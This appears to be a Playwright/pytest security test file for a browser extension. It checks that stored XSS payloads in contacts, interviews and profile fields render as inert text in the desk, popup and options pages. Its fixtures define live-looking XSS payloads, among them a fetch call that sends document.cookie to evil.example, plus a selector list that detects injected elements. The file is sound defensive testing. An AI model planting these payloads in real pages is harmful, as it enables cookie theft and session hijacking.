"""Stored XSS in the real browser (T20): hostile names, headlines, notes, topics and the drafts written from
them are shown as text in the popup, the options page and every view of the desk; no dialog, no request to
a foreign host, no element made from them."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone

import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.browser

# Each payload, if it ever ran, would mark the window, change the title, open a dialog and call a foreign host.
RUN = "window.owned=1;document.title='owned';alert(1);fetch('https://evil.example/'+document.cookie)"
NAME = f'Eve <img src=x onerror="{RUN}"> Doe'
HEADLINE = f"<script>{RUN}</script>"
NOTES = f'<svg onload="{RUN}"></svg><iframe srcdoc="<script>parent.alert(2)</script>"></iframe>'
TOPIC = f'<a href="javascript:{RUN}">streaming</a>'
COMPANY = f'Initech"><img src=x onerror="{RUN}">'
# Elements the payloads would create if any of them were parsed as HTML.
INJECTED = "img[src='x'], [onerror], [onload], svg[onload], iframe[srcdoc], a[href^='javascript:'], script:not([src])"


@pytest.fixture
def watched(ext, server):
    """Record dialogs and every request that leaves the extension and the local server."""
    seen = {"dialogs": [], "foreign": []}
    mine = (ext.origin, server.base)

    def on_request(request):
        if not request.url.startswith(mine) and not request.url.startswith(("data:", "blob:")):
            seen["foreign"].append(request.url)

    ext.context.on("request", on_request)

    def open_page(path):
        page = ext.page(path)
        page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
        return page

    yield open_page, seen
    ext.context.remove_listener("request", on_request)


def hostile_world(api):
    """A contact made of payloads on the panel of an interview that ended two hours ago, and a profile too."""
    eve = api("POST", "/contacts", {"name": NAME, "headline": HEADLINE, "company": COMPANY, "notes": NOTES,
                                    "title": HEADLINE, "location": NOTES[:200], "email": "eve@initech.example"})
    end = datetime.now(timezone.utc) - timedelta(hours=2)
    interview = api("POST", "/interviews", {
        "company": COMPANY, "role": HEADLINE, "starts_at": (end - timedelta(hours=1)).isoformat(),
        "ends_at": end.isoformat(), "notes": NOTES, "topics": [TOPIC],
        "concerns": [{"concern": HEADLINE, "clarification": NOTES}],
        "interviewers": [{"contact_id": eve["id"], "topics": [TOPIC]}]})
    api("POST", "/touches", {"contact_id": eve["id"], "kind": "met", "note": NOTES})
    api("PUT", "/profile", {"name": NAME, "signature": HEADLINE, "value_proposition": NOTES[:500]})
    thank = next(r for r in api("GET", "/reminders")["reminders"] if r["rule"] == "thank_you")
    return eve, interview, thank


def inert(page, seen, *texts):
    """The payload text is on the page as text, and nothing it carries ran or was built."""
    for text in texts:
        expect(page.locator("body")).to_contain_text(text.split(">")[0][:20])
    page.wait_for_timeout(300)  # an onerror/onload would have fired by now
    assert page.evaluate("() => window.owned") is None
    assert page.title() != "owned"
    assert page.locator(INJECTED).count() == 0
    assert seen["dialogs"] == [] and seen["foreign"] == []


def test_payloads_stay_text_in_the_desk(watched, api):
    open_page, seen = watched
    eve, interview, _ = hostile_world(api)
    for view, texts in [("contacts", [NAME]), (f"contact/{eve['id']}", [NAME, HEADLINE]),
                        ("timeline", ["Eve"]), ("interviews", ["Initech"]), (f"interview/{interview['id']}", ["Initech"]),
                        ("profile", [])]:
        page = open_page(f"desk.html#{view}")
        expect(page.locator("#server-state")).to_have_text("connected")
        inert(page, seen, *texts)
        page.close()


def test_payloads_stay_text_in_the_popup_drafts_and_options(watched, api):
    open_page, seen = watched
    _, _, thank = hostile_world(api)
    popup = open_page(f"popup.html?reminder={thank['id']}")
    draft = popup.locator(".draft[data-kind=thank_you]")
    expect(draft.locator("textarea[name=body]")).to_be_visible()
    body = draft.locator("textarea[name=body]").input_value()
    assert "<img src=x" in body or "Eve" in body  # the name is in the draft, as characters in a text field
    inert(popup, seen, "Eve")
    options = open_page("options.html")
    inert(options, seen)


def test_the_watch_sees_a_payload_parsed_as_html(watched):
    """Control: were a view to use innerHTML, the check above would fail (the extension's CSP still keeps the
    inline handler from running, which is the second layer, not the first)."""
    open_page, seen = watched
    page = open_page("options.html")
    page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", NAME)
    with pytest.raises(AssertionError):
        inert(page, seen)
